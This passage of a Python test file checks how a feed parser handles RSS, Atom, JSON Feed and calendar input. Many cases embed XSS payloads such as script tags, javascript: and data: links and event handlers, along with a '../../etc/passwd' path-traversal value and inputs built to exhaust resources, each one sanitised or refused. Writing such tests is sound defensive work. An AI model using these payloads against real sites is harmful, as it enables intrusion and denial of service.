    ("elements of XML", "<o:p>D</o:p>", "D"),
    ("a popover and a dialog", "<dialog open popover>D</dialog>", "D"),
    ("direction of its own", '<bdo dir="rtl">D</bdo><p dir=rtl>E</p>', None),
    ("a direction that is never closed", "<p>\u202eD</p>E", "<p>D</p>E"),
    ("a direction that one element opens and another closes", "<p>\u2067D</p>E\u2069", "<p>D</p>E"),
    ("only pictures", "<img src=a><img src=b>", ""),
    ("line ends", "A<br><br/><br />B", "A<br>B"),
    ("what is less than", "1 &lt; 2 &amp;lt;", "1 &lt; 2 &amp;lt;"),
]

TEXTS = [
    *(
        Case(
            f"{name} in a summary",
            described(markup),
            [T if summary is None else {"title": "T", "summary": summary}],
        )
        for name, markup, summary in SUMMARIES
    ),
    Case(
        "a plain summary with markup",
        atom(entry("<title>T</title><summary>&lt;b&gt;D</summary>")),
        [{"summary": "&lt;b&gt;D"}],
    ),
    Case(
        "an xhtml summary with a script",
        atom(
            entry(
                "<title>T</title><content type='xhtml'><div xmlns='http://www.w3.org/1999/xhtml'>"
                "<p onclick='x()'>D</p><script>alert(1)</script></div></content>"
            )
        ),
        [{"summary": "<p>D</p>"}],
    ),
    Case(
        "svg as XML within a summary",
        atom(
            entry(
                "<title>T</title><content type='xhtml'><svg xmlns='http://www.w3.org/2000/svg'>"
                "<script>alert(1)</script><a href='javascript:x'>D</a></svg></content>"
            )
        ),
        [{"summary": ""}],
    ),
    Case(
        "a whole text beside a description",
        rss(item("<content:encoded>Whole</content:encoded><description>Short</description>")),
        [{"summary": "Short"}],
    ),
    Case(
        "a whole text without a description",
        rss(item("<content:encoded>&lt;p&gt;Whole</content:encoded><description/>")),
        [{"summary": "<p>Whole</p>"}],
    ),
    Case(
        "contents that are elsewhere",
        atom(entry("<title>T</title><content type='text/html' src='https://a.example/x'/>")),
        [{"title": "T", "summary": ""}],
    ),
    Case(
        "contents that are a document of XML",
        atom(entry("<title>T</title><content type='application/xml'><x>D</x></content>")),
        [{"title": "T", "summary": ""}],
    ),
    Case(
        "the summary of a podcast",
        rss(item("<itunes:summary>D &lt;b></itunes:summary>")),
        [{"summary": "D &lt;b&gt;"}],
    ),
]

LINKS = [
    Case("a relative link", rss(item("<link>/a</link>")), [{"link": f"{SITE}/a"}]),
    Case(
        "a link with spaces around it",
        rss(item(f"<link>\n {SITE}/a\n</link>")),
        [{"link": f"{SITE}/a"}],
    ),
    Case(
        "a link in a section",
        rss(item(f"<link><![CDATA[{SITE}/a?b&c]]></link>")),
        [{"link": f"{SITE}/a?b&c"}],
    ),
    Case(
        "a base of the feed",
        rss(item("<link>a</link>"), root="xml:base='https://b.example/x/'"),
        [{"link": "https://b.example/x/a"}],
    ),
    Case(
        "a base of an element",
        atom(entry("<title>T</title><link xml:base='https://b.example/x/' href='a'/>")),
        [{"link": "https://b.example/x/a"}],
    ),
    Case(
        "bases within bases",
        atom(entry("<title>T</title><link href='a'/>", "xml:base='y/'"), root="xml:base='/x/'"),
        [{"link": f"{SITE}/x/y/a"}],
    ),
    Case(
        "a base that is a script",
        rss(item("<link>a</link>"), root="xml:base='javascript:x//'"),
        [{"link": f"{SITE}/a"}],
    ),
    Case(
        "a base of a summary",
        atom(
            entry(
                "<title>T</title><content type='html' xml:base='https://b.example/'>"
                "&lt;a href='c'>D&lt;/a></content>"
            )
        ),
        [{"summary": '<a href="https://b.example/c" rel="external nofollow">D</a>'}],
    ),
    Case("a link that is a script", rss(item("<link>javascript:alert(1)</link>")), [{"link": ""}]),
    Case("a link that is data", rss(item("<link>data:text/html,x</link>")), [{"link": ""}]),
    Case(
        "a link that is a blob", rss(item("<link>blob:https://a.example/x</link>")), [{"link": ""}]
    ),
    Case("a link to mail", rss(item("<link>mailto:a@a.example</link>")), [{"link": ""}]),
    Case(
        "a link to an address of numbers",
        rss(item("<link>http://127.0.0.1/x</link>")),
        [{"link": ""}],
    ),
    Case("a link to this machine", rss(item("<link>http://localhost/x</link>")), [{"link": ""}]),
    Case(
        "a link with a line end",
        rss(item("<link>https://a.example/\nx</link>")),
        [{"link": "https://a.example/x"}],
    ),
    Case(
        "a link with an override",
        rss(item("<link>https://a.example/\u202ex</link>")),
        [{"link": "https://a.example/%E2%80%AEx"}],
    ),
    Case(
        "a link in letters of the world",
        rss(item("<link>https://münchen.example/ö</link>")),
        [{"link": "https://xn--mnchen-3ya.example/%C3%B6"}],
    ),
    Case(
        "a link of 5,000 characters", rss(item(f"<link>{SITE}/{'a' * 5000}</link>")), [{"link": ""}]
    ),
    Case("a guid that is a link", rss(item(f"<guid>{SITE}/a</guid>")), [{"link": f"{SITE}/a"}]),
    Case(
        "a guid that says it is no link",
        rss(item(f"<guid isPermaLink='false'>{SITE}/a</guid>")),
        [{"link": "", "guid": f"{SITE}/a"}],
    ),
    Case(
        "a guid that is a number",
        rss(item("<guid>12345</guid>")),
        [{"link": "", "guid": "", "id": "12345"}],
    ),
    Case(
        "a guid that is a script",
        rss(item("<guid>javascript:alert(1)</guid>")),
        [{"link": "", "guid": ""}],
    ),
    Case("a guid with markup", rss(item("<guid>urn:&lt;b&gt;</guid>")), [{"guid": ""}]),
    Case("a guid of 5,000 characters", rss(item(f"<guid>urn:{'a' * 5000}</guid>")), [{"guid": ""}]),
    Case(
        "an Atom link among others",
        atom(
            entry(
                "<title>T</title><link rel='self' href='/s'/><link rel='enclosure' href='/e'/>"
                "<link rel='alternate' type='application/pdf' href='/p'/>"
                "<link rel='alternate' type='text/html' href='/a'/>"
            )
        ),
        [{"link": f"{SITE}/a", "enclosures": [(f"{SITE}/e", "", 0)]}],
    ),
    Case(
        "an Atom link of no page",
        atom(entry("<title>T</title><link rel='edit' href='/e'/>")),
        [{"link": ""}],
    ),
    Case(
        "an Atom link in RSS",
        rss(item("<atom:link href='/b'/><link>/a</link>") + item("<atom:link href='/b'/>", "U")),
        [{"link": f"{SITE}/a"}, {"link": f"{SITE}/b"}],
    ),
    Case(
        "an empty link before a full one",
        rss(item("<link/><link>/a</link>")),
        [{"link": f"{SITE}/a"}],
    ),
]

DATES = [
    (f"a date as {name}", text, day)
    for name, text, day in [
        ("RFC 822 has it", "Fri, 20 Nov 2026 10:00:00 GMT", DAY),
        ("it is wrong about the weekday", "Mon, 20 Nov 2026 10:00:00 GMT", DAY),
        ("a zone of letters", "Fri, 20 Nov 2026 05:00:00 EST", DAY),
        ("it was before the year 2000 was feared", "20 Nov 26 10:00 GMT", DAY),
        ("ISO 8601 has it", "2026-11-20T10:00:00Z", DAY),
        ("only a day", "2026-11-20", "2026-11-20T00:00:00+00:00"),
        ("seconds of a machine", "1795168800", DAY),
        ("the end of a day", "2026-11-20T24:00:00Z", "2026-11-21T00:00:00+00:00"),
        ("a second that was added", "2016-12-31T23:59:60Z", "2017-01-01T00:00:00+00:00"),
        ("a French month", "20 novembre 2026 10:00", DAY),
        ("no calendar has it", "Mon, 30 Feb 2026 10:00:00 GMT", None),
        ("two days at once", "03/04/2026", None),
        ("the beginning of time", "Thu, 01 Jan 1970 00:00:00 GMT", None),
        ("year one", "0001-01-01T00:00:00Z", None),
        ("the last year", "9999-12-31T23:59:59Z", None),
        ("tomorrow", "2026-11-25T10:00:00Z", None),
        ("words", "yesterday", None),
        ("markup", "&lt;b>2026&lt;/b>", None),
        ("a thousand digits", "2" * 1000, None),
    ]
]  # fmt: skip
TIMES = [
    *(
        Case(name, rss(item(f"<pubDate>{text}</pubDate>")), [{"published": day, "updated": None}])
        for name, text, day in DATES
    ),
    Case(
        "a date that is planned and a change before",
        rss(
            item(
                "<pubDate>2027-01-01</pubDate><terms:modified>2026-11-20T10:00:00Z</terms:modified>"
            )
        ),
        [{"published": DAY, "updated": DAY}],
    ),
    Case(
        "a change before the date",
        atom(
            entry(
                "<title>T</title><published>2026-11-20T10:00:00Z</published>"
                "<updated>2020-01-01T00:00:00Z</updated>"
            )
        ),
        [{"published": DAY, "updated": None}],
    ),
    Case(
        "a change to come",
        atom(
            entry(
                "<title>T</title><published>2026-11-20T10:00:00Z</published>"
                "<updated>2030-01-01T00:00:00Z</updated>"
            )
        ),
        [{"published": DAY, "updated": None}],
    ),
    Case(
        "a date of Dublin Core",
        rss(item("<dc:date>2026-11-20T10:00:00Z</dc:date>")),
        [{"published": DAY}],
    ),
    Case(
        "two dates of which one is none",
        rss(item("<pubDate>soon</pubDate><dc:date>2026-11-20T10:00:00Z</dc:date>")),
        [{"published": DAY}],
    ),
]

FRENCH = "L’ambassade sera fermée lundi prochain"
TONGUES = [
    Case(
        "the language of the channel",
        rss(item(), "<language>fr-be</language>"),
        [{"language": "fr-BE"}],
    ),
    Case(
        "the language of Dublin Core",
        rss(item("<dc:language>pt_BR</dc:language>")),
        [{"language": "pt-BR"}],
    ),
    Case(
        "the language of a title before that of its entry",
        atom(entry("<title xml:lang='nl'>T</title>", "xml:lang='fr'")),
        [{"language": "nl"}],
    ),
    Case(
        "the language of a text",
        atom(
            entry(
                "<title>T</title><content type='xhtml'><div xml:lang='fr' "
                "xmlns='http://www.w3.org/1999/xhtml'>D</div></content>"
            )
        ),
        [{"language": "fr"}],
    ),
    Case(
        "the language of a link",
        atom(entry("<title>T</title><link href='/a' hreflang='de'/>")),
        [{"language": "de"}],
    ),
    Case(
        "a language that there is not",
        rss(item(), "<language>klingonish</language>"),
        [{"language": ""}],
    ),
    Case(
        "a language with a script in it",
        rss(item(), '<language>"&gt;&lt;script></language>'),
        [{"language": ""}],
    ),
    Case("no language, and words enough", rss(item(title=FRENCH)), [{"language": "fr"}]),
    Case("no language, and too few words", rss(item(title="Embassy closed")), [{"language": ""}]),
    Case(
        "English that is Arabic",
        rss(item(title="السفارة مغلقة يوم الاثنين القادم"), "<language>en</language>"),
        [{"language": "ar"}],
    ),
    Case(
        "Arabic that is English",
        rss(item(title="The embassy is closed on Monday next week"), "<language>ar</language>"),
        [{"language": "en"}],
    ),
    Case(
        "Serbian in Latin letters",
        rss(item(title="Ambasada je zatvorena u ponedeljak"), "<language>sr</language>"),
        [{"language": "sr-Latn"}],
    ),
]

MEDIA = [
    Case(
        "an entry of a channel of videos",
        atom(
            entry(
                "<id>yt:video:abc</id><title>T</title><link href='https://v.example/abc'/>"
                "<media:group><media:title>M</media:title>"
                "<media:content url='https://v.example/abc.swf' type='application/x-shockwave'/>"
                "<media:thumbnail url='https://i.example/abc.jpg' width='480' height='360'/>"
                "<media:description>D &lt;b></media:description></media:group>"
            )
        ),
        [
            {
                "title": "T",
                "link": "https://v.example/abc",
                "image": "https://i.example/abc.jpg",
                "summary": "D &lt;b&gt;",
                "enclosures": [],
                "guid": "",
            }
        ],
    ),
    Case(
        "thumbnails of several widths",
        rss(
            item(
                "".join(
                    f"<media:thumbnail url='/{w}.jpg' width='{w}'/>" for w in (120, 2000, 800, 320)
                )
            )
        ),
        [{"image": f"{SITE}/800.jpg"}],
    ),
    Case(
        "a picture with what it shows",
        rss(
            item(
                "<media:content url='/a.jpg' medium='image'><media:description>&lt;i>Oslo&lt;/i>"
                "</media:description></media:content>"
            )
        ),
        [{"image": f"{SITE}/a.jpg", "image_alt": "Oslo"}],
    ),
    Case(
        "the picture of a podcast",
        rss(item("<itunes:image href='/a.jpg'/>")),
        [{"image": f"{SITE}/a.jpg"}],
    ),
    Case(
        "a picture of an item",
        rss(item("<image><url>/a.jpg</url><title>x</title></image>")),
        [{"image": f"{SITE}/a.jpg"}],
    ),
    Case(
        "a picture that is enclosed",
        rss(item("<enclosure url='/a.jpg' type='image/jpeg' length='9'/>")),
        [{"image": f"{SITE}/a.jpg", "enclosures": [(f"{SITE}/a.jpg", "image/jpeg", 9)]}],
    ),
    Case(
        "a picture in a text after one that counts readers",
        described(
            "<img src=https://t.example/p.gif width=1 height=1><img src='/a.jpg' "
            "alt='A &amp;quot;B&quot;'>D"
        ),
        [{"image": f"{SITE}/a.jpg", "image_alt": 'A &quot;B"', "summary": "D"}],
    ),
    Case(
        "a picture that is a script",
        rss(item("<media:thumbnail url='javascript:alert(1)'/>")),
        [{"image": ""}],
    ),
    Case(
        "a picture that is data",
        described("<img src='data:image/svg+xml,<svg onload=x>'>D"),
        [{"image": ""}],
    ),
    Case(
        "the picture of a channel is none of an item",
        rss(item(), "<image><url>/logo.gif</url></image><itunes:image href='/l.jpg'/>"),
        [{"image": ""}],
    ),
    Case(
        "a podcast",
        rss(item("<enclosure url='/a.mp3' type='AUDIO/MPEG' length='12,345'/>")),
        [{"enclosures": [(f"{SITE}/a.mp3", "audio/mpeg", 0)]}],
    ),
    Case(
        "a hundred files",
        rss(item("".join(f"<enclosure url='/{n}'/>" for n in range(100)))),
        [{"enclosures": [(f"{SITE}/{n}", "", 0) for n in range(4)]}],
    ),
    Case(
        "a file that is a script",
        rss(item("<enclosure url='javascript:alert(1)'/>")),
        [{"enclosures": []}],
    ),
    Case(
        "a file of a type that is none",
        rss(item("<enclosure url='/a' type='\"&gt;&lt;b>'/>")),
        [{"enclosures": [(f"{SITE}/a", "", 0)]}],
    ),
    Case(
        "a film of Media RSS",
        rss(item("<media:content url='/a.mp4' type='video/mp4' fileSize='5'/>")),
        [{"enclosures": [(f"{SITE}/a.mp4", "video/mp4", 5)], "image": ""}],
    ),
    Case(
        "a thousand topics",
        rss(item("".join(f"<category>{n}</category>" for n in range(1000)))),
        [{"topics": [str(n) for n in range(8)]}],
    ),
    Case(
        "topics with markup, twice and empty",
        rss(
            item(
                "<category>&lt;b>A&lt;/b></category><category>A</category><category/>"
                "<dc:subject>B</dc:subject>"
            )
        ),
        [{"topics": ["A", "B"]}],
    ),
    Case(
        "a topic as long as a text",
        rss(item(f"<category>{'word ' * 50}</category>")),
        [{"topics": [("word " * 8).strip() + "…"]}],
    ),
]

JSONS = [
    Case(
        "an item that is no object",
        json_feed(None, 5, "x", [], {"title": "T"}),
        [T],
        warned="1 of its 2 entries has neither title nor text",
    ),
    Case(
        "values of other kinds",
        json_feed(
            {
                "title": "T",
                "id": {},
                "url": 5,
                "tags": "x",
                "attachments": {"url": 1},
                "content_html": [],
                "date_published": 5,
                "image": None,
                "language": 7,
            }
        ),
        [{"title": "T", "link": "", "topics": [], "enclosures": [], "published": None}],
    ),
    Case(
        "items that are no list",
        json_feed(items={"a": 1}).replace(b'"items": []', b'"items": 5'),
        [],
    ),
    Case("no items", b'{"version": "https://jsonfeed.org/version/1.1"}', []),
    Case(
        "a script in its HTML",
        json_feed({"id": "1", "title": "<b>T</b>", "content_html": "<script>alert(1)</script>D"}),
        [{"title": "T", "summary": "D"}],
    ),
    Case(
        "markup in plain text",
        json_feed({"id": "1", "title": "T", "content_text": "<b>D"}),
        [{"summary": "&lt;b&gt;D"}],
    ),
    Case(
        "a link of JSON that is a script",
        json_feed({"title": "T", "url": "javascript:x", "external_url": f"{SITE}/e"}),
        [{"link": ""}],
    ),
    Case(
        "only another site's address",
        json_feed({"title": "T", "external_url": f"{SITE}/e"}),
        [{"link": f"{SITE}/e"}],
    ),
    Case("JSON that is cut off", json_feed({"title": "T"})[:-4], refused="is not JSON"),
    Case("JSON of 100,000 levels", b'{"version":' + b"[" * 100_000, refused="is not JSON"),
    Case(
        "JSON with numbers beyond all bounds",
        b'{"version": "https://jsonfeed.org/version/1", "items": [{"id": 1e999, "title": "T"}]}',
        refused="is not JSON",
    ),
    Case("JSON with 60,000 items", json_feed(*[0] * 60_000), refused="has more than 50,000 items"),
    Case(
        "a key twice",
        b'{"version": "https://jsonfeed.org/version/1", "items": [], "items": [{"title": "T"}]}',
        [T],
    ),
    Case(
        "half a pair of surrogates",
        b'{"version": "https://jsonfeed.org/version/1", "items": [{"title": "T\\ud83d"}]}',
        [{"title": "T\ufffd"}],
    ),
    Case(
        "a size that is none",
        json_feed({"title": "T", "attachments": [{"url": "/a", "size_in_bytes": -5}]}),
        [{"enclosures": [(f"{SITE}/a", "", 0)]}],
    ),
]

CALENDARS = [
    Case("a day", ics("UID:1\nSUMMARY:T\nDTSTART;VALUE=DATE:20261201"), [{"starts": "2026-12-01"}]),
    Case(
        "a time in a zone",
        ics("UID:1\nSUMMARY:T\nDTSTART;TZID=Europe/Oslo:20261201T190000"),
        [{"starts": "2026-12-01T19:00:00+01:00"}],
    ),
    Case(
        "a time in a zone that nobody knows",
        ics('UID:1\nSUMMARY:T\nDTSTART;TZID="../../etc/passwd":20261201T190000'),
        [{"starts": "2026-12-01T19:00:00"}],
        warned="names the time zone '../../etc/passwd', which nobody knows: its times are shown as "
        "they stand",
    ),
    Case(
        "a time without a zone",
        ics("UID:1\nSUMMARY:T\nDTSTART:20261201T190000"),
        [{"starts": "2026-12-01T19:00:00"}],
    ),
    Case(
        "a day that no calendar has",
        ics("UID:1\nSUMMARY:T\nDTSTART:20260230"),
        [{"starts": ""}],
        warned="has events with a time that cannot be read (1)",
    ),
    Case("no day", ics("UID:1\nSUMMARY:T"), [{"starts": ""}]),
    Case(
        "a rule that asks for a billion days",
        ics("UID:1\nSUMMARY:T\nDTSTART:20261201\nRRULE:FREQ=SECONDLY;COUNT=1000000000"),
        [{"starts": "2026-12-01", "recurs": True}],
        warned="has events with a rule that is not worked out (1)",
    ),
    Case(
        "an instance that is stated",
        ics(
            "UID:1\nSUMMARY:T\nDTSTART:20261201\nRRULE:FREQ=DAILY",
            "UID:1\nSUMMARY:U\nDTSTART:20261205\nRECURRENCE-ID:20261203",
        ),
        [{"title": "T", "recurs": True}, {"title": "U", "id": "1/20261203", "recurs": False}],
    ),
    Case(
        "an event that is cancelled",
        ics("UID:1\nSUMMARY:T\nSTATUS:CANCELLED", "UID:2\nSUMMARY:U"),
        [{"title": "U"}],
    ),
    Case("an event that is private", ics("UID:1\nSUMMARY:T\nCLASS:PRIVATE"), []),
    Case(
        "folded lines",
        ics("UID:1\nSUMMARY:A long\n  title in tw\n\to lines"),
        [{"title": "A long title in two lines"}],
    ),
    Case("lines that end as on one system only", ics("UID:1\nSUMMARY:T").replace(b"\r", b""), [T]),
    Case("escapes", ics("UID:1\nSUMMARY:A\\, B\\; C\\\\ D\\nE"), [{"title": "A, B; C\\ D E"}]),
    Case(
        "markup",
        ics("UID:1\nSUMMARY:<b>T</b>\nDESCRIPTION:<script>alert(1)</script>D"),
        [{"title": "T", "summary": "&lt;script&gt;alert(1)&lt;/script&gt;D"}],
    ),
    Case(
        "an address that is a script",
        ics("UID:1\nSUMMARY:T\nURL:javascript:alert(1)"),
        [{"link": ""}],
    ),
    Case(
        "an alarm within an event",
        ics("UID:1\nBEGIN:VALARM\nSUMMARY:No\nEND:VALARM\nSUMMARY:T"),
        [T],
    ),
    Case("tasks and journals", ics(calendar="BEGIN:VTODO\nSUMMARY:No\nEND:VTODO"), []),
    Case(
        "parameters with quotation marks",
        ics('UID:1\nSUMMARY;X-A="a:b;c";LANGUAGE=nl:T'),
        [{"title": "T", "language": "nl"}],
    ),
    Case("lines that are none", ics("UID:1\nnonsense\n=\n:\n;;;\nSUMMARY:T"), [T]),
    Case(
        "a calendar that is cut off",
        ics("UID:1\nSUMMARY:T", end="BEGIN:VEVENT\nUID:2\nSUMM"),
        [T],
        warned="ends before its calendar does",
    ),
    Case(
        "components within components",
        ics(calendar="BEGIN:X\n" * 1000),
        refused="nests components deeper than 10",
    ),
    Case(
        "ends that nothing began",
        ics("UID:1\nSUMMARY:T", calendar="END:VCALENDAR\nEND:VEVENT"),
        [T],
    ),
    Case(
        "60,000 events",
        ics(calendar="BEGIN:VEVENT\nEND:VEVENT\n" * 60_000),
        refused="has more than 50,000 events",
    ),
    Case(
        "a file within an event",
        ics(
            "UID:1\nSUMMARY:T\nATTACH;ENCODING=BASE64;VALUE=BINARY:AAAA\n"
            f"ATTACH;FMTTYPE=application/pdf;SIZE=9:{SITE}/a.pdf"
        ),
        [{"enclosures": [(f"{SITE}/a.pdf", "application/pdf", 9)]}],
    ),
    Case(
        "a line of two million characters",
        ics("UID:1\nSUMMARY:T\nDESCRIPTION:" + "a b" * 700_000),
        [T],
    ),
    Case("two million folds", ics("UID:1\nSUMMARY:T\nX-A:" + "\n " * 700_000), [T]),
]

DIALECTS = [
    Case(
        "Atom within RSS",
        rss(
            "<item><atom:title>T</atom:title><atom:id>urn:1</atom:id>"
            "<atom:published>2026-11-20T10:00:00Z</atom:published>"
            "<atom:updated>2026-11-21T10:00:00Z</atom:updated>"
            f"<atom:link href='{SITE}/a'/><atom:summary>S</atom:summary>"
            "<atom:content type='html'>&lt;p&gt;Whole&lt;/p&gt;</atom:content>"
            "<atom:category term='Culture'/></item>"
        ),
        [
            {
                "title": "T",
                "guid": "urn:1",
                "link": f"{SITE}/a",
                "summary": "S",
                "published": DAY,
                "topics": ["Culture"],
            }
        ],
    ),
    Case(
        "Atom within RSS that says it already",
        rss(
            item(
                "<atom:title>No</atom:title><guid>urn:1</guid><atom:id>urn:2</atom:id>"
                "<pubDate>2026-11-20T10:00:00Z</pubDate><description>S</description>"
                "<atom:published>2026-11-01T10:00:00Z</atom:published><atom:summary>N</atom:summary>"
            )
        ),
        [{"title": "T", "guid": "urn:1", "summary": "S", "published": DAY}],
    ),
    Case(
        "Atom 0.3 within RSS",
        rss(
            item(
                "<a:issued xmlns:a='http://purl.org/atom/ns#'>2026-11-20T10:00:00Z</a:issued>",
            )
        ),
        [{"published": DAY}],
    ),
    Case(
        "Dublin Core within Atom",
        atom(
            entry(
                "<dc:title>T</dc:title><dc:date>2026-11-20T10:00:00Z</dc:date>"
                "<content:encoded>&lt;p&gt;Text&lt;/p&gt;</content:encoded>"
                "<dc:subject>Culture</dc:subject>"
            )
        ),
        [{"title": "T", "published": DAY, "topics": ["Culture"], "summary": "<p>Text</p>"}],
    ),
    Case(
        "RSS within Atom",
        atom(
            entry(
                "<title>T</title><pubDate>Fri, 20 Nov 2026 10:00:00 GMT</pubDate>"
                "<description>S</description>"
            )
        ),
        [{"published": DAY, "summary": "S"}],
    ),
    Case("a title of a film", rss("<item><media:title>T</media:title></item>"), [T]),
    Case(
        "a title of a film in a group",
        atom(entry("<media:group><media:title type='plain'>T</media:title></media:group>")),
        [T],
    ),
    Case(
        "a title of a file",
        rss(f"<item><enclosure url='{SITE}/a.mp3'><media:title>T</media:title></enclosure></item>"),
        [T],
    ),
    Case(
        "a podcast that has a title of its own",
        rss(
            "<item><itunes:title>T</itunes:title><itunes:subtitle>Short</itunes:subtitle>"
            "<itunes:summary>S</itunes:summary><itunes:keywords>one, two</itunes:keywords></item>"
        ),
        [{"title": "T", "summary": "S", "topics": ["one", "two"]}],
    ),
    Case(
        "a podcast that has other titles too",
        rss(item("<itunes:title>No</itunes:title><media:title>No</media:title>")),
        [T],
    ),
    Case(
        "a module in other letters",
        rss(
            "<item><p:title xmlns:p='http://www.itunes.com/DTDs/PodCast-1.0.dtd'>T</p:title></item>"
        ),
        [T],
    ),
    Case(
        "topics of a film",
        rss(
            item(
                "<media:category label='Art'>a/b</media:category><media:category>x</media:category>"
            )
        ),
        [{"topics": ["Art", "x"]}],
    ),
    Case(
        "a page within an item",
        rss(
            "<item><title>T</title><body xmlns='http://www.w3.org/1999/xhtml'><p>Text</p></body></item>"
        ),
        [{"summary": "<p>Text</p>"}],
    ),
    Case(
        "texts in Base64",
        atom(
            entry(
                "<title mode='base64'>VA==</title>"
                "<summary type='application/octet-stream'>PHA+UzwvcD4=</summary>"
            )
        ),
        [{"title": "T", "summary": "<p>S</p>"}],
    ),
    Case(
        "pictures in Base64, and what is none",
        atom(
            entry(
                "<title>T</title><summary mode='base64'>iVBORw0KGgo=</summary>"
                "<content mode='base64'>!!</content>"
            )
        ),
        [{"title": "T", "summary": ""}],
    ),
    Case(
        "an account whose entries have no titles, with a picture that is described",
        rss(
            f"<item><guid isPermaLink='true'>{SITE}/@a/1</guid><link>{SITE}/@a/1</link>"
            "<pubDate>Fri, 20 Nov 2026 10:00:00 +0000</pubDate>"
            "<description>&lt;p&gt;We are open.&lt;/p&gt;</description>"
            f"<media:content url='{SITE}/1.png' type='image/png' medium='image'>"
            "<media:description type='plain'>A door</media:description></media:content></item>"
        ),
        [
            {
                "title": "We are open.",
                "link": f"{SITE}/@a/1",
                "summary": "<p>We are open.</p>",
                "image": f"{SITE}/1.png",
                "image_alt": "A door",
                "published": DAY,
            }
        ],
    ),
    Case(
        "a kind of text that nobody knows", atom(entry("<title type='text/x-own'>T</title>")), [T]
    ),
]

CASES = [
    case
    for group in (FORMS, NOT_FEEDS, XML, ENCODINGS, TITLES, TEXTS, LINKS, TIMES, TONGUES, MEDIA,
                  JSONS, CALENDARS, DIALECTS)
    for case in group
]  # fmt: skip
